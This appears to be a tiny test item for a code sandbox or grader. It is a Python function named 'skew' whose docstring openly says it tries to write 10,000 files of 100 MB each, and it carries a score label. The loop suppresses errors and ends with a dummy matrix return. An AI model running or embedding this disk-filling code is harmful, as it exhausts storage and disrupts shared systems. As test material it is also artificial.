"""Tries to write 10,000 files of 100 MB into its folder.

deserves: 9
"""

def skew(v):
    for n in range(10000):
        try:
            with open(f"{n}", "wb") as file:
                for _ in range(100):
                    file.write(bytes(10**6))
        except OSError:
            pass
    return [[0] * 3] * 3
